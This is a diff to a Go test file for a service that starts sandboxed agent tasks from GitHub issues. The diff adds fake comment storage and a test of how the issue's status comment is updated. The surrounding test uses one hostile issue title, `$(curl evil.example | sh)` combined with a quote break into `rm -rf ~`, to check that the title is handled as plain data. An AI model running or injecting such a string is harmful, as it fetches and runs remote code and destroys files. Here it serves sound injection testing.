@@ -27,11 +27,30 @@ func (c fakeCollaborators) CanTrigger(_ context.Context, _ int64, _, login strin
 	return c[login], nil
 }
 
+// fakeComments keeps each comment's last body, by id.
+type fakeComments struct {
+	bodies map[int64]string
+	fail   bool
+}
+
+func (c *fakeComments) UpsertComment(_ context.Context, _ int64, _ string, _ int, id int64, body string) (int64, error) {
+	if c.fail {
+		return 0, sandstep.Errorf(sandstep.ETRANSIENT, "GitHub is down")
+	}
+	if id == 0 {
+		id = int64(len(c.bodies) + 1)
+	}
+	c.bodies[id] = body
+	return id, nil
+}
+
 func TestHandleIssue(t *testing.T) {
 	ctx := context.Background()
 	h := newFaultHarness(t, 5)
 	h.svc.repos = fakeRepos{"octo/hello": {Command: "./agent.sh", TimeoutSeconds: 600}}
 	h.svc.collaborators = fakeCollaborators{"maintainer": true}
+	comments := &fakeComments{bodies: map[int64]string{}}
+	h.svc.comments = comments
 	hostile := `$(curl evil.example | sh) "; rm -rf ~ #`
 	ev := func(delivery string, mod func(*IssueEvent)) IssueEvent {
 		e := IssueEvent{Delivery: delivery, Repo: "octo/hello", InstallationID: 7, Issue: 12, Title: hostile, Body: "fix it",
@@ -99,5 +118,36 @@ func TestHandleIssue(t *testing.T) {
 	data, _ := base64.StdEncoding.DecodeString(spec.Sandbox.Files[0].ContentBase64)
 	if err := json.Unmarshal(data, &issue); err != nil || issue["title"] != hostile {
 		t.Errorf("issue file %s, want the title as data", data)
+	}
+}
+
+// The issue's one comment says the task started, then how it ended; a
+// GitHub that cannot be told fails nothing.
+func TestIssueComment(t *testing.T) {
+	ctx := context.Background()
+	h := newFaultHarness(t, 5)
+	h.svc.repos = fakeRepos{"octo/hello": {Command: "./agent.sh", TimeoutSeconds: 600}}
+	h.svc.collaborators = fakeCollaborators{}
+	comments := &fakeComments{bodies: map[int64]string{}}
+	h.svc.comments = comments
+	out, err := h.svc.HandleIssue(ctx, IssueEvent{Delivery: "d1", Repo: "octo/hello", InstallationID: 7, Issue: 3})
+	if err != nil || out.Action != "started" {
+		t.Fatalf("HandleIssue = %+v, %v", out, err)
+	}
+	tk, _ := h.store.GetTask(ctx, out.TaskID)
+	if tk.IssueComment != 1 || !strings.Contains(comments.bodies[1], "started task `"+tk.ID+"`") {
+		t.Fatalf("comment %d: %q", tk.IssueComment, comments.bodies[1])
+	}
+	if _, err := h.svc.CleanUpTask(ctx, tk.ID, &TaskFailure{Error: "Sandbox.Transient", Cause: "daytona down"}); err == nil {
+		t.Fatal("a failed task's clean-up answered no outcome")
+	}
+	if len(comments.bodies) != 1 || !strings.Contains(comments.bodies[1], "failed") || !strings.Contains(comments.bodies[1], "daytona down") {
+		t.Errorf("comments %v, want the one comment edited to say it failed", comments.bodies)
+	}
+
+	comments.fail = true
+	out, err = h.svc.HandleIssue(ctx, IssueEvent{Delivery: "d2", Repo: "octo/hello", InstallationID: 7, Issue: 4})
+	if err != nil || out.Action != "started" {
+		t.Errorf("with GitHub down: %+v, %v; want the task started all the same", out, err)
 	}
 }
